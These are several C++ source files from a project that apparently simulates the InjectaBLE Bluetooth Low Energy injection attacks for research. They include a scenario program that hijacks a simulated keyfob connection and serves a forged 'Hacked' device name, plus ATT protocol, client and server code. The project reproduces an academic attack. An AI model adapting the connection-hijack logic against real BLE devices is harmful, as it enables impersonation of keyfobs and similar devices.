                    std::string(name->begin(), name->end()).c_str());
    }
    return name && std::string(name->begin(), name->end()) == "Hacked" ? 0 : 1;
}
