// Scenario B (paper §VI-B): hijacking the Slave role.
//
// The attacker injects LL_TERMINATE_IND — the master ignores it, the slave
// obeys and leaves — then impersonates the slave. When the phone later reads
// the Device Name it receives the attacker's forged "Hacked" (the paper's
// exact demonstration).
#include <cstdio>

#include "core/scenarios.hpp"
#include "gatt/builder.hpp"
#include "world/world.hpp"

using namespace ble;
using namespace injectable;

int main() {
    world::WorldSpec spec;
    spec.seed = 7;
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;
    spec.master_sca_ppm = 0.0;
    spec.master_traffic_every_events = 0;
    spec.profile = world::VictimProfile::kNone;  // the victim is a keyfob
    spec.peripheral_name = "keyfob";
    world::World world(spec);

    gatt::KeyfobProfile keyfob;
    keyfob.install(world.peripheral->att_server(), "KeyFob");

    world.peripheral->on_disconnected = [&](link::DisconnectReason reason) {
        std::printf("[%8.1f ms] KEYFOB kicked out of its own connection (%s) — "
                    "it has no idea the master is still being served\n",
                    to_ms(world.scheduler.now()), link::disconnect_reason_name(reason));
    };

    if (!world.establish_and_sniff(5_s)) return 1;
    std::printf("[%8.1f ms] victims connected; attacker synchronised\n",
                to_ms(world.scheduler.now()));

    AttackSession& session = world.start_session(400_ms);

    // The attacker's fake device: Device Name = "Hacked".
    att::AttServer fake;
    gatt::GattBuilder builder(fake);
    const std::uint16_t name_handle = gatt::add_gap_service(builder, "Hacked");

    ScenarioB scenario(session, fake);
    std::optional<ScenarioB::Result> result;
    scenario.execute([&](const ScenarioB::Result& r) {
        result = r;
        std::printf("[%8.1f ms] LL_TERMINATE_IND injected after %d attempt(s); "
                    "attacker is now the slave\n",
                    to_ms(world.scheduler.now()), r.attempts);
    });
    world.run_until(60_s, [&] { return result.has_value(); });
    if (!result || !result->success) {
        std::printf("hijack failed\n");
        return 1;
    }

    world.run_for(1_s);
    std::printf("[%8.1f ms] phone still believes it is connected: %s\n",
                to_ms(world.scheduler.now()),
                world.central->connected() ? "yes" : "no");

    std::optional<Bytes> name;
    world.central->gatt().read(name_handle,
                               [&](std::optional<Bytes> v) { name = std::move(v); });
    world.run_until(10_s, [&] { return name.has_value(); });
    if (name) {
        std::printf("[%8.1f ms] phone reads Device Name -> \"%s\"\n",
                    to_ms(world.scheduler.now()),
                    std::string(name->begin(), name->end()).c_str());
    }
    return name && std::string(name->begin(), name->end()) == "Hacked" ? 0 : 1;
}
