#include "att/att_pdu.hpp"

namespace ble::att {

const char* opcode_name(Opcode opcode) noexcept {
    switch (opcode) {
        case Opcode::kErrorRsp: return "Error Response";
        case Opcode::kExchangeMtuReq: return "Exchange MTU Request";
        case Opcode::kExchangeMtuRsp: return "Exchange MTU Response";
        case Opcode::kFindInformationReq: return "Find Information Request";
        case Opcode::kFindInformationRsp: return "Find Information Response";
        case Opcode::kReadByTypeReq: return "Read By Type Request";
        case Opcode::kReadByTypeRsp: return "Read By Type Response";
        case Opcode::kReadReq: return "Read Request";
        case Opcode::kReadRsp: return "Read Response";
        case Opcode::kReadBlobReq: return "Read Blob Request";
        case Opcode::kReadBlobRsp: return "Read Blob Response";
        case Opcode::kReadByGroupTypeReq: return "Read By Group Type Request";
        case Opcode::kReadByGroupTypeRsp: return "Read By Group Type Response";
        case Opcode::kWriteReq: return "Write Request";
        case Opcode::kWriteRsp: return "Write Response";
        case Opcode::kWriteCmd: return "Write Command";
        case Opcode::kHandleValueNotification: return "Handle Value Notification";
        case Opcode::kHandleValueIndication: return "Handle Value Indication";
        case Opcode::kHandleValueConfirmation: return "Handle Value Confirmation";
    }
    return "Unknown";
}

Bytes AttPdu::serialize() const {
    ByteWriter w(1 + params.size());
    w.write_u8(static_cast<std::uint8_t>(opcode));
    w.write_bytes(params);
    return w.take();
}

std::optional<AttPdu> AttPdu::parse(BytesView data) noexcept {
    if (data.empty()) return std::nullopt;
    AttPdu out;
    out.opcode = static_cast<Opcode>(data[0]);
    out.params.assign(data.begin() + 1, data.end());
    return out;
}

AttPdu make_error_rsp(Opcode request, std::uint16_t handle, ErrorCode error) {
    ByteWriter w(4);
    w.write_u8(static_cast<std::uint8_t>(request));
    w.write_u16(handle);
    w.write_u8(static_cast<std::uint8_t>(error));
    return AttPdu{Opcode::kErrorRsp, w.take()};
}

std::optional<ErrorRsp> ErrorRsp::parse(const AttPdu& pdu) noexcept {
    if (pdu.opcode != Opcode::kErrorRsp || pdu.params.size() != 4) return std::nullopt;
    ByteReader r(pdu.params);
    ErrorRsp out;
    out.request = static_cast<Opcode>(*r.read_u8());
    out.handle = *r.read_u16();
    out.error = static_cast<ErrorCode>(*r.read_u8());
    return out;
}

namespace {
AttPdu make_u16(Opcode opcode, std::uint16_t value) {
    ByteWriter w(2);
    w.write_u16(value);
    return AttPdu{opcode, w.take()};
}

AttPdu make_handle_value(Opcode opcode, std::uint16_t handle, BytesView value) {
    ByteWriter w(2 + value.size());
    w.write_u16(handle);
    w.write_bytes(value);
    return AttPdu{opcode, w.take()};
}
}  // namespace

AttPdu make_exchange_mtu_req(std::uint16_t mtu) { return make_u16(Opcode::kExchangeMtuReq, mtu); }
AttPdu make_exchange_mtu_rsp(std::uint16_t mtu) { return make_u16(Opcode::kExchangeMtuRsp, mtu); }

AttPdu make_read_req(std::uint16_t handle) { return make_u16(Opcode::kReadReq, handle); }

AttPdu make_read_rsp(BytesView value) {
    return AttPdu{Opcode::kReadRsp, Bytes(value.begin(), value.end())};
}

AttPdu make_write_req(std::uint16_t handle, BytesView value) {
    return make_handle_value(Opcode::kWriteReq, handle, value);
}

AttPdu make_write_rsp() { return AttPdu{Opcode::kWriteRsp, {}}; }

AttPdu make_write_cmd(std::uint16_t handle, BytesView value) {
    return make_handle_value(Opcode::kWriteCmd, handle, value);
}

AttPdu make_notification(std::uint16_t handle, BytesView value) {
    return make_handle_value(Opcode::kHandleValueNotification, handle, value);
}

AttPdu make_indication(std::uint16_t handle, BytesView value) {
    return make_handle_value(Opcode::kHandleValueIndication, handle, value);
}

AttPdu make_confirmation() { return AttPdu{Opcode::kHandleValueConfirmation, {}}; }

std::optional<HandleValue> HandleValue::parse(const AttPdu& pdu) noexcept {
    if (pdu.params.size() < 2) return std::nullopt;
    ByteReader r(pdu.params);
    HandleValue out;
    out.handle = *r.read_u16();
    out.value = r.read_rest();
    return out;
}

AttPdu make_find_information_req(std::uint16_t start, std::uint16_t end) {
    ByteWriter w(4);
    w.write_u16(start);
    w.write_u16(end);
    return AttPdu{Opcode::kFindInformationReq, w.take()};
}

namespace {
AttPdu make_range_type(Opcode opcode, std::uint16_t start, std::uint16_t end,
                       const Uuid& type) {
    ByteWriter w(4 + 16);
    w.write_u16(start);
    w.write_u16(end);
    type.write_to(w);
    return AttPdu{opcode, w.take()};
}
}  // namespace

AttPdu make_read_by_type_req(std::uint16_t start, std::uint16_t end, const Uuid& type) {
    return make_range_type(Opcode::kReadByTypeReq, start, end, type);
}

AttPdu make_read_by_group_type_req(std::uint16_t start, std::uint16_t end, const Uuid& type) {
    return make_range_type(Opcode::kReadByGroupTypeReq, start, end, type);
}

std::optional<RangeRequest> RangeRequest::parse(const AttPdu& pdu) noexcept {
    if (pdu.params.size() < 4) return std::nullopt;
    ByteReader r(pdu.params);
    RangeRequest out;
    out.start = *r.read_u16();
    out.end = *r.read_u16();
    const std::size_t rest = r.remaining();
    if (rest == 2 || rest == 16) {
        out.type = Uuid::read_from(r, rest);
        if (!out.type) return std::nullopt;
    } else if (rest != 0) {
        return std::nullopt;
    }
    return out;
}

}  // namespace ble::att
