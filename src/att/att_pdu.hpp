// ATT protocol PDUs (Vol 3, Part F) — the application layer the paper's
// scenario A injects: "injecting ATT Requests allows the attacker to interact
// with the ATT server, which is used in BLE as a generic application layer."
#pragma once

#include <cstdint>
#include <optional>

#include "att/uuid.hpp"
#include "common/bytes.hpp"

namespace ble::att {

enum class Opcode : std::uint8_t {
    kErrorRsp = 0x01,
    kExchangeMtuReq = 0x02,
    kExchangeMtuRsp = 0x03,
    kFindInformationReq = 0x04,
    kFindInformationRsp = 0x05,
    kReadByTypeReq = 0x08,
    kReadByTypeRsp = 0x09,
    kReadReq = 0x0A,
    kReadRsp = 0x0B,
    kReadBlobReq = 0x0C,
    kReadBlobRsp = 0x0D,
    kReadByGroupTypeReq = 0x10,
    kReadByGroupTypeRsp = 0x11,
    kWriteReq = 0x12,
    kWriteRsp = 0x13,
    kWriteCmd = 0x52,
    kHandleValueNotification = 0x1B,
    kHandleValueIndication = 0x1D,
    kHandleValueConfirmation = 0x1E,
};

[[nodiscard]] const char* opcode_name(Opcode opcode) noexcept;

enum class ErrorCode : std::uint8_t {
    kInvalidHandle = 0x01,
    kReadNotPermitted = 0x02,
    kWriteNotPermitted = 0x03,
    kInvalidPdu = 0x04,
    kRequestNotSupported = 0x06,
    kAttributeNotFound = 0x0A,
    kUnlikelyError = 0x0E,
    kInvalidAttributeValueLength = 0x0D,
};

/// Generic ATT PDU: opcode + parameters. Typed helpers below.
struct AttPdu {
    Opcode opcode{};
    Bytes params;

    [[nodiscard]] Bytes serialize() const;
    static std::optional<AttPdu> parse(BytesView data) noexcept;
};

// --- typed builders/parsers for the PDUs the stack and attacks use ---

[[nodiscard]] AttPdu make_error_rsp(Opcode request, std::uint16_t handle, ErrorCode error);
struct ErrorRsp {
    Opcode request{};
    std::uint16_t handle = 0;
    ErrorCode error{};
    static std::optional<ErrorRsp> parse(const AttPdu& pdu) noexcept;
};

[[nodiscard]] AttPdu make_exchange_mtu_req(std::uint16_t mtu);
[[nodiscard]] AttPdu make_exchange_mtu_rsp(std::uint16_t mtu);

[[nodiscard]] AttPdu make_read_req(std::uint16_t handle);
[[nodiscard]] AttPdu make_read_rsp(BytesView value);

[[nodiscard]] AttPdu make_write_req(std::uint16_t handle, BytesView value);
[[nodiscard]] AttPdu make_write_rsp();
[[nodiscard]] AttPdu make_write_cmd(std::uint16_t handle, BytesView value);

[[nodiscard]] AttPdu make_notification(std::uint16_t handle, BytesView value);
[[nodiscard]] AttPdu make_indication(std::uint16_t handle, BytesView value);
[[nodiscard]] AttPdu make_confirmation();

struct HandleValue {
    std::uint16_t handle = 0;
    Bytes value;
    /// Parses ReadReq / WriteReq / WriteCmd / Notification / Indication.
    static std::optional<HandleValue> parse(const AttPdu& pdu) noexcept;
};

[[nodiscard]] AttPdu make_find_information_req(std::uint16_t start, std::uint16_t end);
[[nodiscard]] AttPdu make_read_by_type_req(std::uint16_t start, std::uint16_t end,
                                           const Uuid& type);
[[nodiscard]] AttPdu make_read_by_group_type_req(std::uint16_t start, std::uint16_t end,
                                                 const Uuid& type);

struct RangeRequest {
    std::uint16_t start = 0;
    std::uint16_t end = 0;
    std::optional<Uuid> type;  // set for *ByType / *ByGroupType
    static std::optional<RangeRequest> parse(const AttPdu& pdu) noexcept;
};

}  // namespace ble::att
