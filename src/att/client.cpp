#include "att/client.hpp"

namespace ble::att {

void AttClient::request(AttPdu pdu, ResultCallback callback) {
    queue_.push_back(Pending{std::move(pdu), std::move(callback)});
    pump();
}

void AttClient::pump() {
    if (in_flight_ || queue_.empty()) return;
    in_flight_ = std::move(queue_.front());
    queue_.pop_front();
    send_(in_flight_->pdu);
}

void AttClient::handle_pdu(const AttPdu& pdu) {
    switch (pdu.opcode) {
        case Opcode::kHandleValueNotification: {
            if (const auto hv = HandleValue::parse(pdu); hv && on_notification) {
                on_notification(hv->handle, hv->value);
            }
            return;
        }
        case Opcode::kHandleValueIndication: {
            if (const auto hv = HandleValue::parse(pdu)) {
                if (on_indication) on_indication(hv->handle, hv->value);
                send_(make_confirmation());
            }
            return;
        }
        default:
            break;
    }

    if (!in_flight_) return;  // unsolicited response: drop
    Pending done = std::move(*in_flight_);
    in_flight_.reset();

    RequestResult result;
    if (pdu.opcode == Opcode::kErrorRsp) {
        result.error = ErrorRsp::parse(pdu);
    } else {
        result.response = pdu;
    }
    if (done.callback) done.callback(result);
    pump();
}

void AttClient::read(std::uint16_t handle,
                     std::function<void(std::optional<Bytes>)> callback) {
    request(make_read_req(handle), [callback = std::move(callback)](const RequestResult& r) {
        if (!callback) return;
        if (r.ok() && r.response->opcode == Opcode::kReadRsp) {
            callback(r.response->params);
        } else {
            callback(std::nullopt);
        }
    });
}

void AttClient::write(std::uint16_t handle, Bytes value,
                      std::function<void(bool)> callback) {
    request(make_write_req(handle, value),
            [callback = std::move(callback)](const RequestResult& r) {
                if (callback) callback(r.ok() && r.response->opcode == Opcode::kWriteRsp);
            });
}

void AttClient::write_command(std::uint16_t handle, BytesView value) {
    // Commands bypass the request queue: no response will ever arrive.
    send_(make_write_cmd(handle, value));
}

void AttClient::exchange_mtu(std::uint16_t mtu,
                             std::function<void(std::uint16_t)> callback) {
    request(make_exchange_mtu_req(mtu),
            [callback = std::move(callback)](const RequestResult& r) {
                if (!callback) return;
                if (r.ok() && r.response->opcode == Opcode::kExchangeMtuRsp &&
                    r.response->params.size() == 2) {
                    ByteReader reader(r.response->params);
                    callback(*reader.read_u16());
                } else {
                    callback(0);
                }
            });
}

}  // namespace ble::att
