// ATT client: issues one outstanding request at a time (the ATT flow-control
// rule) and routes responses/notifications back to callbacks.
#pragma once

#include <cstdint>
#include <deque>
#include <functional>
#include <optional>

#include "att/att_pdu.hpp"

namespace ble::att {

/// Result of a request: a response PDU or the server's Error Response.
struct RequestResult {
    std::optional<AttPdu> response;
    std::optional<ErrorRsp> error;

    [[nodiscard]] bool ok() const noexcept { return response.has_value(); }
};

class AttClient {
public:
    using SendFn = std::function<void(const AttPdu&)>;
    using ResultCallback = std::function<void(const RequestResult&)>;

    explicit AttClient(SendFn send) : send_(std::move(send)) {}

    /// Feed every server->client ATT PDU here.
    void handle_pdu(const AttPdu& pdu);

    /// Queues a request; callbacks fire in order as responses arrive.
    void request(AttPdu pdu, ResultCallback callback);

    // Convenience wrappers.
    void read(std::uint16_t handle, std::function<void(std::optional<Bytes>)> callback);
    void write(std::uint16_t handle, Bytes value, std::function<void(bool)> callback);
    /// Write Command: fire-and-forget, no response expected.
    void write_command(std::uint16_t handle, BytesView value);
    void exchange_mtu(std::uint16_t mtu, std::function<void(std::uint16_t)> callback);

    /// Unsolicited server pushes.
    std::function<void(std::uint16_t handle, const Bytes& value)> on_notification;
    std::function<void(std::uint16_t handle, const Bytes& value)> on_indication;

    [[nodiscard]] bool busy() const noexcept { return in_flight_.has_value(); }
    [[nodiscard]] std::size_t queued() const noexcept { return queue_.size(); }

private:
    void pump();

    struct Pending {
        AttPdu pdu;
        ResultCallback callback;
    };

    SendFn send_;
    std::deque<Pending> queue_;
    std::optional<Pending> in_flight_;
};

}  // namespace ble::att
