#include "att/server.hpp"

#include <algorithm>

namespace ble::att {

namespace {
// Group-end helper: services run until the next service declaration.
constexpr std::uint16_t kPrimaryServiceUuid = 0x2800;
constexpr std::uint16_t kSecondaryServiceUuid = 0x2801;

bool is_service_declaration(const Uuid& type) noexcept {
    return type == Uuid::from16(kPrimaryServiceUuid) ||
           type == Uuid::from16(kSecondaryServiceUuid);
}
}  // namespace

std::uint16_t AttServer::add(Attribute attribute) {
    attribute.handle = static_cast<std::uint16_t>(db_.size() + 1);
    db_.push_back(std::move(attribute));
    return db_.back().handle;
}

Attribute* AttServer::find(std::uint16_t handle) noexcept {
    if (handle == 0 || handle > db_.size()) return nullptr;
    return &db_[handle - 1];
}

const Attribute* AttServer::find(std::uint16_t handle) const noexcept {
    if (handle == 0 || handle > db_.size()) return nullptr;
    return &db_[handle - 1];
}

const Attribute* AttServer::find_by_type(std::uint16_t start, std::uint16_t end,
                                         const Uuid& type) const noexcept {
    for (const auto& attr : db_) {
        if (attr.handle >= start && attr.handle <= end && attr.type == type) return &attr;
    }
    return nullptr;
}

std::optional<AttPdu> AttServer::handle_pdu(const AttPdu& request) {
    switch (request.opcode) {
        case Opcode::kExchangeMtuReq:
            return make_exchange_mtu_rsp(mtu_);
        case Opcode::kReadReq:
            return handle_read(request);
        case Opcode::kWriteReq:
            return handle_write(request, /*is_command=*/false);
        case Opcode::kWriteCmd:
            return handle_write(request, /*is_command=*/true);
        case Opcode::kFindInformationReq:
            return handle_find_information(request);
        case Opcode::kReadByTypeReq:
            return handle_read_by_type(request);
        case Opcode::kReadByGroupTypeReq:
            return handle_read_by_group_type(request);
        case Opcode::kHandleValueConfirmation:
            return std::nullopt;
        default:
            // Commands (odd bit 6 set) are silently dropped; requests get an
            // error so the client is not left hanging.
            if ((static_cast<std::uint8_t>(request.opcode) & 0x40) != 0) return std::nullopt;
            return make_error_rsp(request.opcode, 0, ErrorCode::kRequestNotSupported);
    }
}

std::optional<AttPdu> AttServer::handle_read(const AttPdu& request) {
    const auto hv = HandleValue::parse(request);
    if (!hv) return make_error_rsp(request.opcode, 0, ErrorCode::kInvalidPdu);
    Attribute* attr = find(hv->handle);
    if (attr == nullptr) {
        return make_error_rsp(request.opcode, hv->handle, ErrorCode::kInvalidHandle);
    }
    if (!attr->readable) {
        return make_error_rsp(request.opcode, hv->handle, ErrorCode::kReadNotPermitted);
    }
    const Bytes value = attr->on_read ? attr->on_read() : attr->value;
    // Truncate to MTU - 1 like a real server.
    const std::size_t n = std::min<std::size_t>(value.size(), mtu_ - 1u);
    return make_read_rsp(BytesView(value.data(), n));
}

std::optional<AttPdu> AttServer::handle_write(const AttPdu& request, bool is_command) {
    const auto hv = HandleValue::parse(request);
    if (!hv) {
        if (is_command) return std::nullopt;
        return make_error_rsp(request.opcode, 0, ErrorCode::kInvalidPdu);
    }
    Attribute* attr = find(hv->handle);
    if (attr == nullptr) {
        if (is_command) return std::nullopt;
        return make_error_rsp(request.opcode, hv->handle, ErrorCode::kInvalidHandle);
    }
    if (!attr->writable) {
        if (is_command) return std::nullopt;
        return make_error_rsp(request.opcode, hv->handle, ErrorCode::kWriteNotPermitted);
    }
    if (attr->on_write) {
        if (const auto error = attr->on_write(hv->value)) {
            if (is_command) return std::nullopt;
            return make_error_rsp(request.opcode, hv->handle, *error);
        }
    }
    attr->value = hv->value;
    if (is_command) return std::nullopt;
    return make_write_rsp();
}

std::optional<AttPdu> AttServer::handle_find_information(const AttPdu& request) {
    const auto range = RangeRequest::parse(request);
    if (!range || range->start == 0 || range->start > range->end) {
        return make_error_rsp(request.opcode, 0, ErrorCode::kInvalidPdu);
    }
    // Format 1 (16-bit UUIDs) or 2 (128-bit); all entries in one response
    // must share a format.
    ByteWriter w;
    std::optional<bool> fmt16;
    for (const auto& attr : db_) {
        if (attr.handle < range->start || attr.handle > range->end) continue;
        const bool is16 = attr.type.is16();
        if (!fmt16) fmt16 = is16;
        if (*fmt16 != is16) break;
        if (w.size() + (is16 ? 4u : 18u) > mtu_ - 2u) break;
        w.write_u16(attr.handle);
        attr.type.write_to(w);
    }
    if (!fmt16) {
        return make_error_rsp(request.opcode, range->start, ErrorCode::kAttributeNotFound);
    }
    ByteWriter out;
    out.write_u8(*fmt16 ? 0x01 : 0x02);
    out.write_bytes(w.bytes());
    return AttPdu{Opcode::kFindInformationRsp, out.take()};
}

std::optional<AttPdu> AttServer::handle_read_by_type(const AttPdu& request) {
    const auto range = RangeRequest::parse(request);
    if (!range || !range->type || range->start == 0 || range->start > range->end) {
        return make_error_rsp(request.opcode, 0, ErrorCode::kInvalidPdu);
    }
    ByteWriter w;
    std::optional<std::size_t> entry_len;
    for (const auto& attr : db_) {
        if (attr.handle < range->start || attr.handle > range->end) continue;
        if (!(attr.type == *range->type)) continue;
        const Bytes value = attr.on_read ? attr.on_read() : attr.value;
        const std::size_t len = 2 + value.size();
        if (!entry_len) entry_len = len;
        if (*entry_len != len) break;
        if (w.size() + len > mtu_ - 2u) break;
        w.write_u16(attr.handle);
        w.write_bytes(value);
    }
    if (!entry_len) {
        return make_error_rsp(request.opcode, range->start, ErrorCode::kAttributeNotFound);
    }
    ByteWriter out;
    out.write_u8(static_cast<std::uint8_t>(*entry_len));
    out.write_bytes(w.bytes());
    return AttPdu{Opcode::kReadByTypeRsp, out.take()};
}

std::optional<AttPdu> AttServer::handle_read_by_group_type(const AttPdu& request) {
    const auto range = RangeRequest::parse(request);
    if (!range || !range->type || range->start == 0 || range->start > range->end) {
        return make_error_rsp(request.opcode, 0, ErrorCode::kInvalidPdu);
    }
    if (!is_service_declaration(*range->type)) {
        return make_error_rsp(request.opcode, range->start,
                              ErrorCode::kRequestNotSupported);
    }
    ByteWriter w;
    std::optional<std::size_t> entry_len;
    for (std::size_t i = 0; i < db_.size(); ++i) {
        const auto& attr = db_[i];
        if (attr.handle < range->start || attr.handle > range->end) continue;
        if (!(attr.type == *range->type)) continue;
        // Group end: last handle before the next service declaration.
        std::uint16_t group_end = static_cast<std::uint16_t>(db_.size());
        for (std::size_t j = i + 1; j < db_.size(); ++j) {
            if (is_service_declaration(db_[j].type)) {
                group_end = static_cast<std::uint16_t>(db_[j].handle - 1);
                break;
            }
        }
        const std::size_t len = 4 + attr.value.size();
        if (!entry_len) entry_len = len;
        if (*entry_len != len) break;
        if (w.size() + len > mtu_ - 2u) break;
        w.write_u16(attr.handle);
        w.write_u16(group_end);
        w.write_bytes(attr.value);
    }
    if (!entry_len) {
        return make_error_rsp(request.opcode, range->start, ErrorCode::kAttributeNotFound);
    }
    ByteWriter out;
    out.write_u8(static_cast<std::uint8_t>(*entry_len));
    out.write_bytes(w.bytes());
    return AttPdu{Opcode::kReadByGroupTypeRsp, out.take()};
}

}  // namespace ble::att
