// ATT server: "a database of attributes" (paper §III-A), answering client
// requests — and, in scenario A, the attacker's injected ones, which is the
// whole point: the server cannot tell a spoofed Write Request from a real one.
#pragma once

#include <cstdint>
#include <functional>
#include <optional>
#include <vector>

#include "att/att_pdu.hpp"
#include "att/uuid.hpp"

namespace ble::att {

struct Attribute {
    std::uint16_t handle = 0;  // assigned by the server on add()
    Uuid type;
    Bytes value;
    bool readable = true;
    bool writable = false;
    /// Dynamic read override; when set, replaces `value` for reads.
    std::function<Bytes()> on_read;
    /// Write interceptor: return nullopt to accept (value is stored), or an
    /// error code to refuse.
    std::function<std::optional<ErrorCode>(BytesView new_value)> on_write;
};

class AttServer {
public:
    /// Appends an attribute; handles are assigned sequentially from 1.
    std::uint16_t add(Attribute attribute);

    [[nodiscard]] Attribute* find(std::uint16_t handle) noexcept;
    [[nodiscard]] const Attribute* find(std::uint16_t handle) const noexcept;
    [[nodiscard]] const std::vector<Attribute>& attributes() const noexcept { return db_; }

    /// First attribute with the given type in [start, end], or nullptr.
    [[nodiscard]] const Attribute* find_by_type(std::uint16_t start, std::uint16_t end,
                                                const Uuid& type) const noexcept;

    /// Processes one client PDU. Returns the response PDU, or nullopt when
    /// the PDU needs no response (Write Command, Confirmation, unknown
    /// commands).
    std::optional<AttPdu> handle_pdu(const AttPdu& request);

    [[nodiscard]] std::uint16_t mtu() const noexcept { return mtu_; }

private:
    std::optional<AttPdu> handle_read(const AttPdu& request);
    std::optional<AttPdu> handle_write(const AttPdu& request, bool is_command);
    std::optional<AttPdu> handle_find_information(const AttPdu& request);
    std::optional<AttPdu> handle_read_by_type(const AttPdu& request);
    std::optional<AttPdu> handle_read_by_group_type(const AttPdu& request);

    std::vector<Attribute> db_;
    std::uint16_t mtu_ = 23;
};

}  // namespace ble::att
