#include "att/uuid.hpp"

#include <cstdio>

namespace ble::att {

namespace {
// Bluetooth base UUID 00000000-0000-1000-8000-00805F9B34FB, little-endian.
constexpr std::array<std::uint8_t, 16> kBaseUuid = {0xFB, 0x34, 0x9B, 0x5F, 0x80, 0x00,
                                                    0x00, 0x80, 0x00, 0x10, 0x00, 0x00,
                                                    0x00, 0x00, 0x00, 0x00};
}  // namespace

Uuid Uuid::from16(std::uint16_t value) noexcept {
    Uuid uuid;
    uuid.bytes_ = kBaseUuid;
    uuid.bytes_[12] = static_cast<std::uint8_t>(value & 0xFF);
    uuid.bytes_[13] = static_cast<std::uint8_t>(value >> 8);
    return uuid;
}

Uuid Uuid::from128(const std::array<std::uint8_t, 16>& bytes) noexcept {
    Uuid uuid;
    uuid.bytes_ = bytes;
    return uuid;
}

bool Uuid::is16() const noexcept {
    for (int i = 0; i < 12; ++i) {
        if (bytes_[static_cast<std::size_t>(i)] != kBaseUuid[static_cast<std::size_t>(i)]) {
            return false;
        }
    }
    return bytes_[14] == 0 && bytes_[15] == 0;
}

std::uint16_t Uuid::as16() const noexcept {
    return static_cast<std::uint16_t>(bytes_[12] | (bytes_[13] << 8));
}

void Uuid::write_to(ByteWriter& w) const {
    if (is16()) {
        w.write_u16(as16());
    } else {
        w.write_bytes(BytesView(bytes_.data(), bytes_.size()));
    }
}

std::optional<Uuid> Uuid::read_from(ByteReader& r, std::size_t size) {
    if (size == 2) {
        const auto v = r.read_u16();
        if (!v) return std::nullopt;
        return from16(*v);
    }
    if (size == 16) {
        const auto raw = r.read_bytes(16);
        if (!raw) return std::nullopt;
        std::array<std::uint8_t, 16> bytes{};
        std::copy(raw->begin(), raw->end(), bytes.begin());
        return from128(bytes);
    }
    return std::nullopt;
}

std::string Uuid::to_string() const {
    if (is16()) {
        char buf[8];
        std::snprintf(buf, sizeof(buf), "0x%04x", as16());
        return buf;
    }
    char buf[40];
    std::snprintf(buf, sizeof(buf),
                  "%02x%02x%02x%02x-%02x%02x-%02x%02x-%02x%02x-%02x%02x%02x%02x%02x%02x",
                  bytes_[15], bytes_[14], bytes_[13], bytes_[12], bytes_[11], bytes_[10],
                  bytes_[9], bytes_[8], bytes_[7], bytes_[6], bytes_[5], bytes_[4], bytes_[3],
                  bytes_[2], bytes_[1], bytes_[0]);
    return buf;
}

}  // namespace ble::att
