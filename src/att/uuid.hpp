// Bluetooth UUIDs: 16-bit SIG-assigned shorthands embedded in the 128-bit
// Bluetooth base UUID, plus full 128-bit vendor UUIDs (the emulated lightbulb
// uses one, like its real counterpart).
#pragma once

#include <array>
#include <cstdint>
#include <optional>
#include <string>

#include "common/bytes.hpp"

namespace ble::att {

class Uuid {
public:
    Uuid() = default;

    static Uuid from16(std::uint16_t value) noexcept;
    static Uuid from128(const std::array<std::uint8_t, 16>& bytes) noexcept;

    /// True when this UUID is `xxxx` on the Bluetooth base UUID.
    [[nodiscard]] bool is16() const noexcept;
    /// The 16-bit shorthand (only meaningful when is16()).
    [[nodiscard]] std::uint16_t as16() const noexcept;

    /// 128-bit little-endian on-air representation.
    [[nodiscard]] const std::array<std::uint8_t, 16>& bytes() const noexcept { return bytes_; }

    /// Serializes as 2 bytes when possible, else 16 (ATT find/read-by-type).
    void write_to(ByteWriter& w) const;
    /// Reads a UUID of explicit width (2 or 16 bytes).
    static std::optional<Uuid> read_from(ByteReader& r, std::size_t size);

    [[nodiscard]] std::string to_string() const;

    friend bool operator==(const Uuid& a, const Uuid& b) noexcept {
        return a.bytes_ == b.bytes_;
    }

private:
    // Stored little-endian, matching the on-air order; defaults to the base
    // UUID with a zero shorthand.
    std::array<std::uint8_t, 16> bytes_{};
};

}  // namespace ble::att
