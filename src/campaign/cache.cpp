#include "campaign/cache.hpp"

namespace injectable::campaign {

ResultCache::ResultCache(const CampaignPlan& plan) {
    outputs_.resize(plan.tasks.size());
    expected_counts_.reserve(plan.tasks.size());
    for (const ShardTask& task : plan.tasks) {
        outputs_[static_cast<std::size_t>(task.id)].task = task.id;
        expected_counts_.push_back(task.count);
    }
}

bool ResultCache::accept(const WireMessage& message, std::string* error) {
    auto fail = [&](std::string text) {
        if (error != nullptr) *error = std::move(text);
        return false;
    };
    switch (message.type) {
        case WireType::kHello:
        case WireType::kWorkerDone:
        case WireType::kProgress:
        case WireType::kTelemetry: return true;  // informational, no task state
        case WireType::kError: return fail("worker error: " + message.message);
        case WireType::kTaskStart:
        case WireType::kTaskResults:
        case WireType::kTaskMetrics:
        case WireType::kArtifact:
        case WireType::kTaskDone: break;  // task-scoped: validated below
    }
    if (message.task < 0 || message.task >= static_cast<int>(outputs_.size())) {
        return fail("frame for unknown task " + std::to_string(message.task));
    }
    TaskOutput& slot = outputs_[static_cast<std::size_t>(message.task)];
    if (slot.done) {
        // A task committed by an earlier attempt must never be rewritten: a
        // straggling duplicate stream is a protocol violation, not a merge.
        return fail("frame for already-completed task " + std::to_string(message.task));
    }
    switch (message.type) {
        case WireType::kTaskStart:
            if (slot.started) return fail("duplicate TaskStart for task " +
                                          std::to_string(message.task));
            slot.started = true;
            return true;
        case WireType::kTaskResults:
            if (!slot.started) return fail("TaskResults before TaskStart");
            if (static_cast<int>(message.results.size()) !=
                expected_counts_[static_cast<std::size_t>(message.task)]) {
                return fail("task " + std::to_string(message.task) + " delivered " +
                            std::to_string(message.results.size()) + " trials, expected " +
                            std::to_string(expected_counts_[static_cast<std::size_t>(
                                message.task)]));
            }
            slot.results = message.results;
            return true;
        case WireType::kTaskMetrics:
            if (!slot.started) return fail("TaskMetrics before TaskStart");
            slot.metrics = message.metrics;
            slot.have_metrics = true;
            return true;
        case WireType::kArtifact:
            if (!slot.started) return fail("Artifact before TaskStart");
            slot.artifacts.push_back(message.artifact);
            return true;
        case WireType::kTaskDone:
            if (!slot.started) return fail("TaskDone before TaskStart");
            if (slot.results.empty() &&
                expected_counts_[static_cast<std::size_t>(message.task)] != 0) {
                return fail("TaskDone without TaskResults for task " +
                            std::to_string(message.task));
            }
            slot.done = true;
            return true;
        case WireType::kHello:
        case WireType::kProgress:
        case WireType::kWorkerDone:
        case WireType::kError:
        case WireType::kTelemetry:
            break;  // already fully handled (returned) by the switch above
    }
    return fail("unhandled frame type");
}

void ResultCache::abandon(int task) {
    if (task < 0 || task >= static_cast<int>(outputs_.size())) return;
    TaskOutput& slot = outputs_[static_cast<std::size_t>(task)];
    if (slot.done) return;
    slot = TaskOutput{};
    slot.task = task;
}

